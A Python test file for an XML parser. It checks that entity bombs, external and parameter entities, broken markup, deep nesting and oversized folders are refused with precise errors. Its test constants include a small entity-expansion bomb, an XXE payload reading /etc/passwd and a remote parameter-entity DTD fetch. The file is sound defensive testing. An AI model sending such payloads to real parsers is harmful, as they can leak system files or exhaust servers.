"""XML that means harm, or means nothing, is refused with its file's name."""

from pathlib import Path

import pytest

from detente.case.interop import files, read_domain, xml_tree
from detente.case.interop.files import DataFile
from detente.case.interop.xml_tree import parse_xml
from detente.errors import Fault, InputError

BOMB = (
    '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]><utility_space name="&c;"/>'
)
OUTSIDE = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><utility_space>&x;</utility_space>'
PARAMETER = '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://192.0.2.1/x.dtd"> %x;]><utility_space/>'
PLAIN_DTD = '<!DOCTYPE utility_space SYSTEM "x.dtd"><utility_space/>'


def refusal(data: bytes) -> Fault:
    with pytest.raises(InputError) as caught:
        parse_xml(DataFile(name="a.xml", where="d/a.xml", data=data))
    (fault,) = caught.value.faults
    assert fault.file == "d/a.xml"
    assert fault.hint
    return fault


@pytest.mark.parametrize(
    "text", [BOMB, OUTSIDE, PARAMETER, PLAIN_DTD], ids=["bomb", "file", "parameter", "dtd"]
)
def test_a_document_type_is_refused(text: str) -> None:
    assert refusal(text.encode()).code == "hostile-xml"


@pytest.mark.parametrize(
    ("data", "place"),
    [
        (b"", "line 1, column 1"),
        (b"<a>", "line 1, column 4"),
        (b"<a>\n<b></a>", "line 2, column 6"),
        (b"<a>&x;</a>", "line 1, column 4"),
        (b'<a b="1" b="2"/>', "line 1, column 10"),
        (b"\0\xff\xfe", "line 1"),
        (b'<?xml version="1.0" encoding="nowhere"?><a/>', ""),
        (b'<?xml version="1.0" encoding="utf-7"?><a/>', ""),
        (b'<?xml version="1.0" encoding="rot13"?><a/>', ""),
    ],
)
def test_broken_xml_names_line_and_column(data: bytes, place: str) -> None:
    fault = refusal(data)
    assert fault.code == "bad-xml"
    assert fault.place.startswith(place)


def test_deep_nesting_and_floods_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    assert "nested more than 50 deep" in refusal(b"<a>" * 100_000).message
    monkeypatch.setattr(xml_tree, "ELEMENTS_LIMIT", 1000)
    assert "more than 1000 elements" in refusal(b"<a>" + b"<b/>" * 1000 + b"</a>").message


def test_other_encodings_are_read() -> None:
    text = '<?xml version="1.0" encoding="{}"?><a b="Київ"/>'
    for encoding in ("utf-8-sig", "utf-16", "windows-1251"):
        data = text.format(encoding.removesuffix("-sig")).encode(encoding)
        assert parse_xml(DataFile(name="a", where="a", data=data)).get("b") == "Київ"


def test_folders_that_are_none_or_too_large(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    with pytest.raises(InputError, match="cannot be read as a folder"):
        read_domain(tmp_path / "nowhere")
    for number in range(3):
        (tmp_path / f"{number}.xml").write_text("<a/>")
    monkeypatch.setattr(files, "FILES_LIMIT", 2)
    with pytest.raises(InputError, match="holds 3 files"):
        read_domain(tmp_path)
    monkeypatch.setattr(files, "FILES_LIMIT", 3)
    monkeypatch.setattr(files, "BYTES_LIMIT", 10)
    with pytest.raises(InputError, match=r"2\.xml: the files of the folder hold more than"):
        read_domain(tmp_path)
